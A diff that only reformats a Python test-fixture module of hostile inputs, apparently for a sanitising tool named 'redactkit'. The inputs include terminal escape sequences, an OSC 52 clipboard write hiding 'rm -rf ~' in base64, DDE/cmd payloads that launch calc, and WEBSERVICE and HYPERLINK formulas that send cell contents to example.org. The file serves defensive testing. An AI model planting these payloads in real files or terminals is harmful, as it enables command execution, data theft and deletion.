@@ -8,11 +8,17 @@ from collections.abc import Iterator
 ESC, CSI, ST, BEL = "\x1b", "\x1b[", "\x1b\\", "\x07"
 
 _TERMINAL = [
-    *(f"{CSI}{code}" for code in ("2J", "H", "31m", "?25l", "?1049h", "6n", "c", "1;1H", "3J", "5i", "20h", "!p")),
+    *(
+        f"{CSI}{code}"
+        for code in ("2J", "H", "31m", "?25l", "?1049h", "6n", "c", "1;1H", "3J", "5i", "20h", "!p")
+    ),
     *(f"{ESC}]{code};x{end}" for code in (0, 1, 2, 4, 10, 52, 777, 1337) for end in (BEL, ST)),
     f"{ESC}]8;;https://example.org/{ST}click{ESC}]8;;{ST}",
     f"{ESC}]52;c;cm0gLXJmIH4={BEL}",
-    *(f"{ESC}{code}" for code in ("c", "P1$qm" + ST, "_x" + ST, "^x" + ST, "X" + ST, "(0", "#8", "7", "8", "=", ">")),
+    *(
+        f"{ESC}{code}"
+        for code in ("c", "P1$qm" + ST, "_x" + ST, "^x" + ST, "X" + ST, "(0", "#8", "7", "8", "=", ">")
+    ),
     "\x9b2J",
     "\x9d8;;https://example.org/\x9cclick\x9d8;;\x9c",
     "\r\rredactkit: released\r",
@@ -96,7 +102,24 @@ def in_utf8() -> Iterator[str]:
         yield text
 
 
-_HEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff=", "\u00a0=")
+_HEADS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    "\0=",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    " =",
+    "\u200b=",
+    "\ufeff=",
+    "\u00a0=",
+)
 _BODIES = (
     "1+1", "SUM(A1:A9)", 'HYPERLINK("https://example.org/?"&A1,"look")', "cmd|' /C calc'!A0",
     'DDE("cmd";"/C calc";"x")', 'WEBSERVICE("https://example.org/"&A1)', 'IMPORTXML("https://example.org/","//a")',
@@ -106,7 +129,19 @@ _BODIES = (
 
 def formulas() -> list[str]:
     """Payloads that a spreadsheet would run: every first sign before every formula."""
-    more = ["-2+3+cmd|' /C calc'!A0", "=1+1\";=1+1", "+1-781-555-0137", "@x", "=", "+", "-", "@", "-e5", "=-1", "--1"]
+    more = [
+        "-2+3+cmd|' /C calc'!A0",
+        '=1+1";=1+1',
+        "+1-781-555-0137",
+        "@x",
+        "=",
+        "+",
+        "-",
+        "@",
+        "-e5",
+        "=-1",
+        "--1",
+    ]
     return [head + body for head in _HEADS for body in _BODIES if not _is_number(head + body)] + more
 
 
